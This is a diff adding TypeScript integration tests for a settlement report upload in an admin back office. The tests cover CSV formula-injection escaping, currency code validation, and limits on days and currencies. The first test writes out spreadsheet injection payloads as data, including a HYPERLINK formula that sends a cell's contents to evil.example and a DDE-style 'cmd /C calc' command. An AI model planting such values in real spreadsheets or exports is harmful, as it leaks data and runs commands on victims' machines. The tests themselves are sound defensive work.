@@ -214,6 +214,103 @@ describe('settlement in the back office: upload, poll, report, download', () => 
     ).toBe(404);
   });
 
+  it('writes the report so that no cell the operator wrote opens as a spreadsheet formula', async () => {
+    const now = new Date().toISOString();
+    const currency = charges[0]!.currency;
+    const started = await upload(
+      admin,
+      [
+        HEADER,
+        `"=HYPERLINK(""https://evil.example/?d=""&A1,""open"")",967770000002,50.00,${currency},charged,${now}`,
+        `@SUM(1+1),967770000003,50.00,${currency},charged,${now}`,
+        `-2+3,967770000004,50.00,${currency},charged,${now}`,
+        `"+cmd|' /C calc'!A0",967770000005,50.00,${currency},charged,${now}`,
+        '',
+      ].join('\n'),
+      'formulas.csv',
+    );
+    expect(started.status).toBe(202);
+    const done = await settled(started.body.data.id);
+    expect(done.status).toBe('done');
+    const report = await server.request(`/api/admin/settlements/${done.id}/report.csv`, {
+      headers: { cookie: admin.jar.header() },
+    });
+    const rows = (await report.text()).split('\n').filter((row) => row.startsWith('missing_here,'));
+    const day = now.slice(0, 10);
+    expect(rows).toEqual([
+      `missing_here,2,${day},"'=HYPERLINK(""https://evil.example/?d=""&A1,""open"")",967770000002,50.00,,${currency},charged,`,
+      `missing_here,3,${day},'@SUM(1+1),967770000003,50.00,,${currency},charged,`,
+      `missing_here,4,${day},'-2+3,967770000004,50.00,,${currency},charged,`,
+      `missing_here,5,${day},'+cmd|' /C calc'!A0,967770000005,50.00,,${currency},charged,`,
+    ]);
+    // No cell of any line starts a formula: every one is a plain value or a quoted text.
+    for (const row of rows) {
+      expect(row.split(',').some((cell) => /^[=+@]/.test(cell))).toBe(false);
+    }
+  });
+
+  it('refuses a currency that is not an ISO 4217 code, naming its line, and leaves nothing', async () => {
+    const before = (await server.database.db.select().from(settlementImports)).length;
+    const charge = charges[0]!;
+    const good = line(charge, charge.amount, 'charged', '2026-01-01T00:00:00Z');
+    const started = await upload(
+      admin,
+      [HEADER, good, good.replace(`,${charge.currency},`, ',ZZQ,'), ''].join('\n'),
+      'unknown-currency.csv',
+    );
+    expect(started.status).toBe(202);
+    const failed = await settled(started.body.data.id);
+    expect(failed).toMatchObject({ status: 'failed', summary: null, totals: [] });
+    expect(failed.error).toContain('السطر 3');
+    expect(failed.error_detail).toBe('line 3: currency is not an ISO 4217 code');
+    expect((await server.database.db.select().from(settlementImports)).length).toBe(before);
+  });
+
+  it.each([
+    [
+      'days',
+      // 401 days, one line each.
+      Array.from({ length: 401 }, (_, day) =>
+        new Date(Date.UTC(2025, 0, 1) + day * 86_400_000).toISOString(),
+      ).map((at, index) => `cap-days-${index},967770000009,50.00,YER,charged,${at}`),
+      /^line 402: the file covers more than 400 days/,
+      'أكثر من 400 يوم',
+    ],
+    [
+      'currencies',
+      Intl.supportedValuesOf('currency')
+        .filter((code) => code !== 'JPY' && !['BHD', 'IQD', 'JOD', 'KWD', 'LYD', 'OMR', 'TND'].includes(code))
+        .slice(0, 21)
+        .map(
+          (code, index) => `cap-currencies-${index},967770000009,50.00,${code},charged,2026-01-01T00:00:00Z`,
+        ),
+      /^line 22: the file names more than 20 currencies/,
+      'أكثر من 20 عملة',
+    ],
+  ])(
+    'refuses a file past the limit of %s, saying so in one line, and leaves nothing',
+    async (_, lines, detail, arabic) => {
+      const before = rowsOf<{ imports: number; lines: number }>(
+        await server.database.db.execute(sql`select
+        (select count(*)::int from settlement_imports) as imports,
+        (select count(*)::int from settlement_report_lines) as lines`),
+      )[0]!;
+      const started = await upload(admin, [HEADER, ...lines, ''].join('\n'), `too-many-${_}.csv`);
+      expect(started.status).toBe(202);
+      const failed = await settled(started.body.data.id);
+      expect(failed).toMatchObject({ status: 'failed', summary: null, totals: [] });
+      expect(failed.error_detail).toMatch(detail);
+      expect(failed.error).toContain(arabic);
+      expect(failed.error).not.toMatch(/\n/);
+      const after = rowsOf<{ imports: number; lines: number }>(
+        await server.database.db.execute(sql`select
+        (select count(*)::int from settlement_imports) as imports,
+        (select count(*)::int from settlement_report_lines) as lines`),
+      )[0]!;
+      expect(after).toEqual(before);
+    },
+  );
+
   it('a file without a mapped column is refused at once, naming it, and leaves nothing', async () => {
     const before = (await server.database.db.select().from(settlementImports)).length;
     const refused = await upload(
